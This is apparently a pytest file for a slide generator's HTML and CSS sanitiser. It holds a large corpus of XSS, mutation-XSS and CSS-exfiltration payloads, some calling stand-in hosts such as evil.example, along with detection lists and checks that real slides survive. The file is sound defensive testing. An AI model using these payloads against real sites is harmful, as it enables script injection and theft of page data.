"""The sanitiser of decision 1: XSS and exfiltration payloads die, real slides survive.

Payloads come from the OWASP XSS Filter Evasion Cheat Sheet, the PortSwigger XSS cheat
sheet, the HTML5 Security Cheatsheet (html5sec.org), published DOMPurify mutation-XSS
bypasses, and CSS exfiltration / CSS injection write-ups.
"""

from __future__ import annotations

import html
import re

import lxml.html
import pytest

from slidegen.render.sanitize import (
    CssRemoval,
    sanitize_css,
    sanitize_slide_html,
    sanitize_style_attribute,
)
from slidegen.seed_content import SLIDE_STYLES

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
PNG_1PX = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "YPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)

# (name, payload, where): where says which sanitiser receives it.
PAYLOADS: list[tuple[str, str, str]] = [
    # --- script elements ---------------------------------------------------------------
    ("script-plain", "<script>alert(1)</script>", "html"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>", "html"),
    ("script-remote-src", "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>", "html"),
    ("script-unclosed-protocol-relative", "<SCRIPT SRC=//xss.rocks/.j>", "html"),
    ("script-extra-open-bracket", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>', "html"),
    ("script-split-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>", "html"),
    ("script-malformed-img-quotes", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>', "html"),
    (
        "script-in-conditional-comment",
        "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
        "html",
    ),
    # --- event handlers ----------------------------------------------------------------
    ("img-onerror", "<img src=x onerror=alert(1)>", "html"),
    ("img-onerror-slashes", "<img/src=x/onerror=alert(1)>", "html"),
    ("img-onerror-mixed-case", "<IMG SRC=x OnErRoR=alert(1)>", "html"),
    ("img-valid-src-with-handler", "<img src=image:logo onload=alert(1)>", "html"),
    ("body-onload", "<BODY ONLOAD=alert('XSS')>", "html"),
    ("svg-onload", "<svg/onload=alert(1)>", "html"),
    ("iframe-onload", "<iframe onload=alert(1)></iframe>", "html"),
    ("video-source-onerror", '<video><source onerror="alert(1)"></video>', "html"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>", "html"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>", "html"),
    ("marquee-onstart", "<marquee onstart=alert(1)>XSS</marquee>", "html"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>", "html"),
    ("custom-tag-contenteditable", "<x contenteditable onblur=alert(1)>lose focus</x>", "html"),
    (
        "contract-tags-with-handlers",
        '<section class="slide" onclick="alert(1)" id="x"><h1 onmouseover=alert(1)>T</h1>'
        "</section>",
        "html",
    ),
    ("div-hover-overlay", '<div onmouseover="alert(1)" style="position:fixed">x</div>', "html"),
    # --- javascript:, vbscript:, data: URLs ----------------------------------------------
    ("img-javascript-src", "<IMG SRC=\"javascript:alert('XSS');\">", "html"),
    (
        "img-javascript-decimal-entities",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
        "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "html",
    ),
    (
        "img-javascript-hex-entities-no-semicolons",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65"
        "&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "html",
    ),
    ("img-javascript-raw-tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">", "html"),
    ("img-javascript-encoded-tab", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">", "html"),
    ("img-javascript-encoded-newline", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">", "html"),
    ("img-javascript-leading-junk", "<IMG SRC=\" &#14;  javascript:alert('XSS');\">", "html"),
    ("img-javascript-grave-accent", "<IMG SRC=`javascript:alert('XSS')`>", "html"),
    ("img-vbscript", "<IMG SRC='vbscript:msgbox(\"XSS\")'>", "html"),
    (
        "img-dynsrc-lowsrc",
        '<IMG DYNSRC="javascript:alert(1)"><IMG LOWSRC="javascript:alert(1)">',
        "html",
    ),
    ("a-javascript", '<a href="javascript:alert(1)">click</a>', "html"),
    (
        "a-javascript-tab-newline-colon",
        '<a href="jav&#x09;a&#x0A;script&colon;alert(1)">x</a>',
        "html",
    ),
    ("a-data-text-html", f'<a href="data:text/html;base64,{B64_SCRIPT}">x</a>', "html"),
    ("a-exfiltration-link", '<a href="https://evil.example/?q=secret">Details</a>', "html"),
    ("iframe-javascript-src", '<iframe src="javascript:alert(1)"></iframe>', "html"),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "html"),
    ("object-data-javascript", '<object data="javascript:alert(1)"></object>', "html"),
    (
        "object-scriptlet",
        '<object type="text/x-scriptlet" data="http://xss.rocks/s.html"></object>',
        "html",
    ),
    ("embed-data-html", f'<embed src="data:text/html;base64,{B64_SCRIPT}">', "html"),
    ("video-poster-javascript", "<video poster=javascript:alert(1)//></video>", "html"),
    ("body-background", "<BODY BACKGROUND=\"javascript:alert('XSS')\">", "html"),
    (
        "table-background",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
        "html",
    ),
    ("td-background", "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>", "html"),
    ("frameset-frame", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>", "html"),
    # --- remote fetches and navigation ----------------------------------------------------
    ("img-remote-tracking-pixel", '<img src="https://evil.example/p.gif?leak=secret">', "html"),
    ("img-protocol-relative", '<img src="//evil.example/p.gif">', "html"),
    ("img-srcset", '<img srcset="https://evil.example/a.png 1x" src="image:logo">', "html"),
    ("img-data-svg", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', "html"),
    ("img-blob-and-file", '<img src="blob:https://x/1"><img src="file:///etc/passwd">', "html"),
    ("img-image-id-path-traversal", '<img src="image:../../secrets">', "html"),
    (
        "meta-refresh-javascript",
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
        "html",
    ),
    (
        "meta-refresh-data",
        f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,{B64_SCRIPT}">',
        "html",
    ),
    ("base-href", "<BASE HREF=\"javascript:alert('XSS');//\">", "html"),
    ("link-stylesheet", '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">', "html"),
    ("link-prefetch", '<link rel="prefetch" href="https://evil.example/leak?d=secret">', "html"),
    ("form-action", '<form action="javascript:alert(1)"><input type=submit></form>', "html"),
    ("button-formaction", "<form><button formaction=javascript:alert(1)>X</button></form>", "html"),
    ("isindex-image", "<isindex type=image src=1 onerror=alert(1)>", "html"),
    # --- namespaces: svg and math ---------------------------------------------------------
    ("svg-script-xlink", '<svg><script xlink:href="data:,alert(1)"></script></svg>', "html"),
    (
        "svg-animate-href",
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        "<text x=20 y=20>Click</text></a></svg>",
        "html",
    ),
    ("svg-use-external", '<svg><use href="https://evil.example/sprite.svg#x"/></svg>', "html"),
    (
        "math-maction-xlink",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">'
        "CLICKME</maction></math>",
        "html",
    ),
    # --- styles in markup --------------------------------------------------------------------
    ("style-tag-import", "<style>@import 'http://evil.example/x.css';</style>", "html"),
    (
        "style-tag-list-style-javascript",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</UL>",
        "html",
    ),
    ("style-attr-expression", "<div style=\"width: expression(alert('XSS'));\">x</div>", "html"),
    (
        "style-attr-expression-comment",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        "html",
    ),
    (
        "style-attr-url-entity",
        '<p style="background:u&#114;l(https://evil.example/x)">x</p>',
        "html",
    ),
    (
        "style-attr-css-hex-escapes",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
        "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0027\\0058"
        "\\0027\\0029'\\0029\">x</DIV>",
        "html",
    ),
    # --- mutation XSS and comment tricks --------------------------------------------------------
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "html"),
    ("template-content", "<template><img src=x onerror=alert(1)></template>", "html"),
    ("xmp-mxss", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', "html"),
    ("svg-style-mxss", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', "html"),
    (
        "math-mglyph-mxss",
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
        "html",
    ),
    (
        "form-math-mxss",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "html",
    ),
    ("comment-breakout", '<!--<img src="--><img src=x onerror=alert(1)//">', "html"),
    (
        "xml-namespace-import",
        '<HTML xmlns:xss><?import namespace="xss" implementation="http://xss.rocks/xss.htc">'
        "<xss:xss>XSS</xss:xss></HTML>",
        "html",
    ),
    # --- deck stylesheets ----------------------------------------------------------------------
    ("css-import-url", "@import url(http://evil.example/x.css);", "css"),
    ("css-import-string", "@import 'https://evil.example/x.css';", "css"),
    ("css-import-escaped-name", "@\\69mport url(//evil.example/x.css);", "css"),
    ("css-import-inside-media", "@media all { @import url(//evil.example/i.css); }", "css"),
    ("css-url-remote", ".slide { background: url(http://attacker.example/?leak) }", "css"),
    ("css-url-protocol-relative", ".slide{background-image:url(//evil.example/x.png)}", "css"),
    (
        "css-attribute-selector-exfiltration",
        "input[value^=a]{background:url(//evil/a)}\ninput[value^=b]{background:url(//evil/b)}",
        "css",
    ),
    (
        "css-chart-data-exfiltration",
        "[data-chart*='revenue']{background:url(https://evil.example/?revenue)}",
        "css",
    ),
    (
        "css-font-face-src",
        "@font-face{font-family:leak;src:url(https://evil.example/f)} .slide{font-family:leak}",
        "css",
    ),
    (
        "css-font-face-unicode-range",
        "@font-face{font-family:x;src:url(//evil/?A);unicode-range:U+0041} h1{font-family:x}",
        "css",
    ),
    ("css-expression", ".a{width:expression(alert(1))}", "css"),
    ("css-expression-split-by-comment", ".a{width:expr/**/ession(alert(1))}", "css"),
    ("css-moz-binding", '.a{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}', "css"),
    ("css-behavior", ".a{behavior:url(xss.htc)}", "css"),
    ("css-escape-six-digits", ".a{background:\\000075rl(http://evil.example/)}", "css"),
    ("css-escape-short-hex", ".a{background:\\75 rl(//evil.example/)}", "css"),
    ("css-escape-letter", ".a{background:u\\rl(//evil.example/)}", "css"),
    ("css-comment-inside-url", ".a{background:ur/**/l(//evil.example/)}", "css"),
    ("css-upper-case", ".A{BACKGROUND:URL(HTTP://EVIL.EXAMPLE/)}", "css"),
    ("css-url-whitespace", ".a{background:url( \n 'https://evil.example/' \n )}", "css"),
    ("css-image-set", '.a{background-image:image-set("https://evil.example/a.png" 1x)}', "css"),
    ("css-webkit-image-set", ".a{background:-webkit-image-set(url(//evil/a.png) 1x)}", "css"),
    ("css-src-function", '.a{background-image:src("https://evil.example/x.png")}', "css"),
    ("css-javascript-url", "li{list-style-image:url(\"javascript:alert('XSS')\")}", "css"),
    ("css-data-svg-url", ".a{background:url(data:image/svg+xml;base64,PHN2Zz4=)}", "css"),
    ("css-data-html-url", ".a{background:url(data:text/html,<script>alert(1)</script>)}", "css"),
    ("css-cursor-url", ".a{cursor:url(https://evil.example/c.cur),auto}", "css"),
    ("css-content-url", ".a::before{content:url(https://evil.example/t.png)}", "css"),
    ("css-border-image", ".a{border-image:url(//evil/b.png) 30 round}", "css"),
    ("css-var-smuggled-url", ".a{--u:url(https://evil.example/v);background:var(--u)}", "css"),
    (
        "css-position-fixed-overlay",
        ".slide .o{position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999}",
        "css",
    ),
    ("css-position-fixed-escaped", ".o{position:f\\69xed}", "css"),
    ("css-position-fixed-via-var", ".o{--p:fixed;position:var(--p)}", "css"),
    ("css-style-breakout", ".a{color:red}</style><script>alert(1)</script><style>", "css"),
    ("css-string-breakout", '.a::after{content:"</style><script>alert(1)</script>"}', "css"),
    ("css-media-nested-url", "@media screen{.a{background:url(https://evil.example/m)}}", "css"),
    ("css-supports-nested-url", "@supports (display:grid){.a{background:url(//evil/s)}}", "css"),
    ("css-nested-rule-url", ".a{color:red;&:hover{background:url(//evil/h)}}", "css"),
    ("css-keyframes-url", "@keyframes k{from{background:url(//evil/k)}}", "css"),
    ("css-namespace", "@namespace url(http://evil.example/ns);", "css"),
    ("css-moz-document", "@-moz-document url-prefix(){.a{background:url(//evil/d)}}", "css"),
    ("css-unbalanced-braces", ".a{color:red;}}.b{background:url(//evil/b)", "css"),
    ("css-bad-string-newline", '.a{content:"x\n;background:url(//evil/x)}', "css"),
    (
        "css-progid-filter",
        ".a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://evil/x.png')}",
        "css",
    ),
    # --- inline style attributes ---------------------------------------------------------------
    ("style-url-remote", "background:url(https://evil.example/pixel)", "style-attr"),
    ("style-url-protocol-relative", "background-image: url(//evil.example/p)", "style-attr"),
    ("style-expression", "width: expression(alert(1))", "style-attr"),
    ("style-position-fixed", "position: fixed; inset: 0; z-index: 2147483647", "style-attr"),
    ("style-escaped-url", "background:\\75 rl(//evil/)", "style-attr"),
    ("style-moz-binding", "-moz-binding: url(http://evil/xbl#x)", "style-attr"),
    ("style-behavior", "behavior: url(#default#time2)", "style-attr"),
    ("style-brace-injection", "color:red; } .x { background:url(//evil/) ", "style-attr"),
    ("style-javascript-url", "background:url(javascript:alert(1))", "style-attr"),
    ("style-image-set", "background: image-set('//evil/a.png' 1x)", "style-attr"),
]

# --- the checker ------------------------------------------------------------------------------

FORBIDDEN_ELEMENTS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
    "math", "form", "input", "button", "textarea", "select", "meta", "base", "link",
    "noscript", "template", "xmp", "a", "video", "audio", "source", "isindex",
}  # fmt: skip
SAFE_ATTRIBUTES = {
    "class", "style", "title", "alt", "width", "height", "src", "colspan", "rowspan", "scope",
    "data-slide-id", "data-chart-id", "data-chart", "data-op", "data-after",
}  # fmt: skip
SAFE_IMG_SRC = re.compile(
    r"image:[A-Za-z0-9_-]+|data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]*=*"
)
DATA_IMAGE_URL = re.compile(r"url\((['\"]?)data:image/(png|jpeg|gif|webp);base64,[a-z0-9+/]*=*\1\)")
PLAIN_POSITIONS = {"static", "relative", "absolute", "sticky"}
CSS_MARKERS = (
    "@import", "@font-face", "@namespace", "@-moz-document", "expression(", "-moz-binding",
    "behavior:", "javascript:", "vbscript:", "image-set(", "src(", "progid:", "http:", "https:",
)  # fmt: skip


def decode_css(text: str) -> str:
    """Decode CSS escapes (repeatedly), drop comments and whitespace, lower-case."""
    text = re.sub(r"/\*.*?(\*/|$)", "", text, flags=re.DOTALL)
    for _ in range(5):
        text = re.sub(
            r"\\([0-9a-fA-F]{1,6})\s?|\\(.)",
            lambda m: chr(min(int(m[1], 16) or 0xFFFD, 0x10FFFF)) if m[1] else m[2],
            text,
            flags=re.DOTALL,
        )
    return re.sub(r"\s+", "", text).lower()


def css_dangers(css: str) -> list[str]:
    """Everything dangerous in a stylesheet or a declaration list."""
    found = [f"markup {m!r}" for m in ("</", "<script", "<!--") if m in css.lower()]
    flat = decode_css(css)
    found += [f"css {marker!r}" for marker in CSS_MARKERS if marker in flat]
    for match in re.finditer(r"url\(", flat):
        if not DATA_IMAGE_URL.match(flat, match.start()):
            found.append(f"url() fetch at {flat[match.start() : match.start() + 40]!r}")
    if "//" in DATA_IMAGE_URL.sub("", flat):
        found.append("'//' outside a data:image URL")
    for value in re.findall(r"position:([^;}]*)", flat):
        if value.removesuffix("!important") not in PLAIN_POSITIONS:
            found.append(f"position:{value}")
    return found


def html_dangers(markup: str) -> list[str]:
    """Everything dangerous in slide HTML, judged on the parsed tree and the raw text."""
    found = ["raw '<script'"] if "<script" in markup.lower() else []
    # The fragment parser below folds document-level tags away, so look for them in the text.
    found += [f"document tag <{t}>" for t in re.findall(r"<(html|head|body)\b", markup, re.I)]
    squashed = re.sub(r"[\x00-\x20]+", "", html.unescape(markup)).lower()
    found += [f"text {s!r}" for s in ("javascript:", "vbscript:", "data:text") if s in squashed]
    if not markup.strip():
        return found
    root = lxml.html.fragment_fromstring(markup, create_parent="div")
    for element in root.iter():
        if not isinstance(element.tag, str):
            found.append("comment or processing instruction")
            continue
        tag = element.tag.lower().rpartition(":")[2]
        if tag in FORBIDDEN_ELEMENTS:
            found.append(f"element <{tag}>")
        for name, value in element.attrib.items():
            found += attribute_dangers(tag, name.lower(), value)
    return found


def attribute_dangers(tag: str, name: str, value: str) -> list[str]:
    """What is wrong with one parsed attribute (value already entity-decoded by lxml)."""
    found = [] if name in SAFE_ATTRIBUTES else [f"attribute {name}= on <{tag}>"]
    if re.fullmatch(r"on\w+", name):
        found.append(f"event handler {name}=")
    squashed = re.sub(r"[\x00-\x20]+", "", value).lower()
    found += [f"{name}={s}" for s in ("javascript:", "vbscript:", "data:text") if s in squashed]
    if name == "src" and not SAFE_IMG_SRC.fullmatch(value):
        found.append(f"src={value!r}")
    if name == "style":
        found += [f"style: {d}" for d in css_dangers(value)]
    return found


def dangers(output: str, where: str) -> list[str]:
    """The single checker every payload goes through."""
    return html_dangers(output) if where == "html" else css_dangers(output)


def sanitise(payload: str, where: str) -> str:
    """Run the sanitiser that owns this kind of input."""
    if where == "html":
        return sanitize_slide_html(payload)
    if where == "css":
        return sanitize_css(payload).css
    return sanitize_style_attribute(payload)


# --- the corpus ---------------------------------------------------------------------------------


def test_the_corpus_is_large_and_names_are_unique() -> None:
    names = [name for name, _, _ in PAYLOADS]
    assert len(PAYLOADS) >= 60
    assert len(set(names)) == len(names)
    assert {where for _, _, where in PAYLOADS} == {"html", "css", "style-attr"}


@pytest.mark.parametrize(
    ("payload", "where"), [p[1:] for p in PAYLOADS], ids=[p[0] for p in PAYLOADS]
)
def test_the_checker_flags_the_raw_payload(payload: str, where: str) -> None:
    # Proves each payload is dangerous as written, so a passing sanitiser test means something.
    assert dangers(payload, where)


@pytest.mark.parametrize(
    ("payload", "where"), [p[1:] for p in PAYLOADS], ids=[p[0] for p in PAYLOADS]
)
def test_nothing_dangerous_survives(payload: str, where: str) -> None:
    output = sanitise(payload, where)
    assert dangers(output, where) == [], output


@pytest.mark.parametrize(
    ("payload", "where"), [p[1:] for p in PAYLOADS], ids=[p[0] for p in PAYLOADS]
)
def test_sanitising_twice_changes_nothing(payload: str, where: str) -> None:
    once = sanitise(payload, where)
    assert sanitise(once, where) == once


# --- legitimate content -------------------------------------------------------------------------

CHART_SPEC = '{"type": "column", "categories": ["Jan", "Feb"], "series": [{"values": [1, 2]}]}'
REAL_SLIDE = f"""<section class="slide" data-slide-id="s-1a2b3c4d">
<h1>Spend grew 18% while Jobs usage stayed flat</h1>
<p class="subtitle">Q1 2025, all workspaces</p>
<div class="kpis">
<div class="kpi"><span class="kpi-value">$412K</span><span class="kpi-label">Q1 spend</span>\
<span class="kpi-delta down">+18% vs Q4</span></div>
<div class="kpi"><span class="kpi-value">64%</span><span class="kpi-label">Top 3 share</span>\
<span class="kpi-delta up">-3 pts vs Q4</span></div>
</div>
<div class="columns">
<div class="column"><div class="card"><p><strong>Lead line</strong></p>\
<ul><li>One <em>point</em> with <code>SKU_A</code></li><li>Two<ol><li>nested</li></ol></li></ul>\
</div></div>
<div class="column"><table><caption>DBUs by SKU</caption>\
<thead><tr><th scope="col">SKU</th><th scope="col" class="num">DBUs</th></tr></thead>\
<tbody><tr><td>Jobs</td><td class="num">41,200</td></tr></tbody>\
<tfoot><tr><td colspan="2">Total 41,200</td></tr></tfoot></table></div>
</div>
<blockquote class="quote">Serverless changed the mix.<cite>FinOps review</cite></blockquote>
<img src="image:logo_main-1" alt="Company logo" width="120" height="40">
<img src="{PNG_1PX}" alt="A dot">
<figure class="chart" data-chart-id="c-12345678"><figcaption>Monthly DBUs</figcaption></figure>
<figure class="chart" data-chart='{CHART_SPEC}'></figure>
<p style="text-align: right; width: 60%">Aligned <b>note</b> <sup>1</sup> <mark>key</mark></p>
<footer class="slide-footer">Source: system.billing.usage, Jan to Mar 2025</footer>
<aside class="notes">Spend rose faster than usage.</aside>
</section>"""


def tree(markup: str) -> list[tuple[str, dict[str, str], str, str]]:
    """Every element with its attributes, text and tail, in document order."""
    root = lxml.html.fragment_fromstring(markup, create_parent="div")
    return [(e.tag, dict(e.attrib), e.text or "", e.tail or "") for e in root.iter()]


def test_a_real_slide_survives_intact() -> None:
    output = sanitize_slide_html(REAL_SLIDE)
    assert tree(output) == tree(REAL_SLIDE)
    assert dangers(output, "html") == []


def test_the_chart_spec_attribute_keeps_its_json() -> None:
    root = lxml.html.fragment_fromstring(sanitize_slide_html(REAL_SLIDE), create_parent="div")
    assert root.xpath("//figure[@data-chart]/@data-chart") == [CHART_SPEC]


@pytest.mark.parametrize(
    ("src", "kept"),
    [
        ("image:chart_01-b", True),
        (PNG_1PX, True),
        ("data:image/jpeg;base64,/9j/4AAQ", True),
        ("data:image/webp;base64,UklGR", True),
        ("data:image/gif;base64,R0lGODlh", True),
        ("data:image/svg+xml;base64,PHN2Zz4=", False),
        ("data:image/png,raw-not-base64", False),
        ("https://cdn.example/logo.png", False),
        ("//cdn.example/logo.png", False),
        ("logo.png", False),
        ("image:bad id", False),
        ("image:a/b", False),
    ],
    ids=lambda value: str(value)[:30] if isinstance(value, str) else str(value),
)
def test_image_sources(src: str, kept: bool) -> None:
    root = lxml.html.fragment_fromstring(
        sanitize_slide_html(f'<img src="{src}" alt="x">'), create_parent="div"
    )
    assert root.xpath("//img/@src") == ([src] if kept else [])
    assert root.xpath("//img/@alt") == ["x"]


def test_links_become_plain_text() -> None:
    output = sanitize_slide_html('<p>See <a href="https://example.com">the report</a>.</p>')
    assert output == "<p>See the report.</p>"


def test_ids_comments_and_unknown_attributes_are_dropped() -> None:
    output = sanitize_slide_html('<div id="x" class="card" data-x="1"><!-- hi --><p>t</p></div>')
    assert output == '<div class="card"><p>t</p></div>'


def test_a_style_attribute_keeps_its_safe_declarations() -> None:
    style = "color: red; background: url(//evil/x); width: 50%; position: sticky"
    assert sanitize_style_attribute(style) == "color: red; width: 50%; position: sticky"


# --- seeded styles --------------------------------------------------------------------------------


def declarations(css: str) -> list[str]:
    """Every `property: value` pair, whitespace-normalised, in order."""
    css = re.sub(r"/\*.*?\*/", "", css, flags=re.DOTALL)
    pairs = re.findall(r"(--?[\w-]+)\s*:\s*([^;{}]+?)\s*;", css)
    return [f"{name}:{' '.join(value.split())}" for name, value in pairs]


def selectors(css: str) -> list[str]:
    """Every rule prelude, whitespace-normalised, in order."""
    css = re.sub(r"/\*.*?\*/", "", css, flags=re.DOTALL)
    return [" ".join(s.split()) for s in re.findall(r"([^{};]+)\{", css)]


@pytest.mark.parametrize("style", SLIDE_STYLES, ids=lambda style: style.name)
def test_seeded_styles_pass_unchanged(style) -> None:  # noqa: ANN001 - a seed record
    result = sanitize_css(style.style_content)
    assert result.removed == []
    assert selectors(result.css) == selectors(style.style_content)
    assert declarations(result.css) == declarations(style.style_content)
    custom_properties = set(re.findall(r"(--[\w-]+)\s*:", style.style_content))
    assert custom_properties and all(prop in result.css for prop in custom_properties)
    assert css_dangers(result.css) == []


def test_safe_at_rules_and_data_images_are_kept() -> None:
    css = (
        "@layer base, theme;\n"
        "@media print { .slide { color: black; } }\n"
        "@keyframes fade { from { opacity: 0; } to { opacity: 1; } }\n"
        f'.logo {{ background: url("{PNG_1PX}") no-repeat; }}\n'
        '.slide::after { content: "\\201C"; }\n'
    )
    result = sanitize_css(css)
    assert result.removed == []
    assert declarations(result.css) == declarations(css)
    assert selectors(result.css) == selectors(css)


# --- removal reports ------------------------------------------------------------------------------

URL_REASON = "url() may only embed a base64 data:image (png, jpeg, gif or webp)"
STYLE_REASON = "markup inside CSS could close the <style> element"

# (id, stylesheet, [(selector_or_at_rule, declaration, reason)])
REMOVAL_CASES: list[tuple[str, str, list[tuple[str, str, str]]]] = [
    (
        "remote-url",
        ".hero { color: red; background: url(https://evil.example/x.png); }",
        [(".hero", "background: url(https://evil.example/x.png)", URL_REASON)],
    ),
    (
        "import",
        "@import url(theme.css);\n.a { color: red }",
        [("@import url(theme.css)", "", "@import loads a remote stylesheet")],
    ),
    (
        "font-face",
        "@font-face { font-family: Brand; src: url(brand.woff2); }",
        [("@font-face", "", "@font-face downloads font files")],
    ),
    (
        "position-fixed",
        ".banner { position: fixed; top: 0 }",
        [(".banner", "position: fixed", "position: fixed escapes the slide")],
    ),
    (
        "expression-in-media",
        "@media print { .a { width: expression(alert(1)); color: red } }",
        [
            (
                "@media print .a",
                "width: expression(alert(1))",
                "expression() runs script in old browsers",
            )
        ],
    ),
    (
        "supports-prelude",
        "@supports (background: url(x.png)) { .a { color: red } }",
        [("@supports (background: url(x.png))", "", URL_REASON)],
    ),
    (
        "style-breakout",
        ".q::after { content: '</style><script>alert(1)</script>' }",
        [(".q::after", "content: '</style><script>alert(1)</script>'", STYLE_REASON)],
    ),
    (
        "escaped-import",
        "@\\69mport 'x.css';",
        [("@\\69mport 'x.css'", "", "@? is not an allowed at-rule")],
    ),
]


@pytest.mark.parametrize(
    ("css", "expected"), [c[1:] for c in REMOVAL_CASES], ids=[c[0] for c in REMOVAL_CASES]
)
def test_removals_name_the_rule_and_the_reason(
    css: str, expected: list[tuple[str, str, str]]
) -> None:
    assert sanitize_css(css).removed == [
        CssRemoval(selector_or_at_rule=where, declaration=declaration, reason=reason)
        for where, declaration, reason in expected
    ]


def test_only_the_bad_declaration_goes() -> None:
    result = sanitize_css(".a { color: red; background: url(//evil/x); margin: 0 }")
    assert result.css == ".a {\n  color: red;\n  margin: 0;\n}\n"
    assert [r.declaration for r in result.removed] == ["background: url(//evil/x)"]


@pytest.mark.parametrize(
    "css",
    [
        ".a { color: red\\ ; margin: 0 }",  # the escaped space must not become an escaped ';'
        "a{" * 5000,
        "(" * 50000,
        "/*" * 5000,
        "@media x {" * 500 + ".a { color: red }" + "}" * 500,
    ],
    ids=["dangling-escape", "deep-nesting", "open-parens", "open-comments", "deep-media"],
)
def test_hostile_structure_neither_crashes_nor_leaks(css: str) -> None:
    result = sanitize_css(css)
    assert result.removed
    assert css_dangers(result.css) == []
    assert "\\;" not in result.css
